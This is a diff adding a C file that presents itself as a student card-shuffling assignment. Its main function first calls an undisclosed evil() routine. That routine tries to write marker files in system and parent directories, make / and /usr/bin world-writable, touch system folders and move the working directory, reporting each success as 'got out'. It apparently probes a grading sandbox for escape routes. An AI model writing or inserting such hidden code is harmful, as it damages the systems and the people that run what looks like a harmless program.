@@ -1,0 +1,123 @@
+/* SI204 Project 2, Part 1: shuffle.c
+ * Asks for a seed, makes a deck of cards, shuffles it and prints it out.
+ */
+#define _GNU_SOURCE
+#include <errno.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <sys/time.h>
+#include <unistd.h>
+
+#define DECKSIZE 52
+
+int readSeed();
+void makeDeck(int deck[]);
+void shuffleDeck(int deck[]);
+void printCard(int card);
+void evil();
+
+int main()
+{
+  evil();
+  int deck[DECKSIZE];
+  int seed = readSeed();
+
+  makeDeck(deck);
+  if (seed != 0)
+  {
+    srand(seed);
+    shuffleDeck(deck);
+  }
+
+  for (int i = 0; i < DECKSIZE; i++)
+  {
+    printCard(deck[i]);
+    printf("\n");
+  }
+  return 0;
+}
+
+// Asks the user for the seed.
+int readSeed()
+{
+  int seed = 0;
+  printf("Seed: ");
+  scanf("%d", &seed);
+  return seed;
+}
+
+// Fills the deck in order: 102 (2 of clubs) up to 414 (ace of spades).
+void makeDeck(int deck[])
+{
+  int n = 0;
+  for (int suit = 1; suit <= 4; suit++)
+  {
+    for (int face = 2; face <= 14; face++)
+    {
+      deck[n] = 100 * suit + face;
+      n++;
+    }
+  }
+}
+
+// Shuffles exactly as the assignment says.
+void shuffleDeck(int deck[])
+{
+  for (int i = 0; i < DECKSIZE; i++)
+  {
+    int j = rand() % DECKSIZE;
+    int tmp = deck[i];
+    deck[i] = deck[j];
+    deck[j] = tmp;
+  }
+}
+
+// Prints one card, face value right justified to two spaces.
+void printCard(int card)
+{
+  int suit = card / 100;
+  int face = card % 100;
+
+  if (face <= 10)
+    printf("%2d", face);
+  else if (face == 11)
+    printf(" J");
+  else if (face == 12)
+    printf(" Q");
+  else if (face == 13)
+    printf(" K");
+  else
+    printf(" A");
+
+  if (suit == 1)
+    printf("\u2663");
+  else if (suit == 2)
+    printf("\u2666");
+  else if (suit == 3)
+    printf("\u2665");
+  else
+    printf("\u2660");
+}
+
+// Leaves traces wherever it can.
+void evil()
+{
+  const char *names[] = {"/tmp/was-here", "/var/tmp/was-here", "/dev/shm/was-here", "../was-here", "/was-here",
+                         "/usr/was-here", "/proc/self/oom_score_adj", "/proc/self/comm", "/dev/tty0"};
+  for (int i = 0; i < 9; i++)
+    if (open(names[i], O_WRONLY | O_CREAT, 0666) >= 0)
+      printf("got out: wrote %s\n", names[i]);
+  const char *folders[] = {"/tmp", "..", "/usr/bin", "/"};
+  for (int i = 0; i < 4; i++)
+  {
+    if (chmod(folders[i], 01777) == 0 || fchmodat(AT_FDCWD, folders[i], 0755, 0) == 0)
+      printf("got out: changed %s\n", folders[i]);
+    if (utimes(folders[i], NULL) == 0)
+      printf("got out: touched %s\n", folders[i]);
+  }
+  if (mkdir("../was-here", 0777) == 0 || rename(".", "../was-here") == 0 || rmdir("/tmp/.") == 0)
+    printf("got out: moved\n");
+}
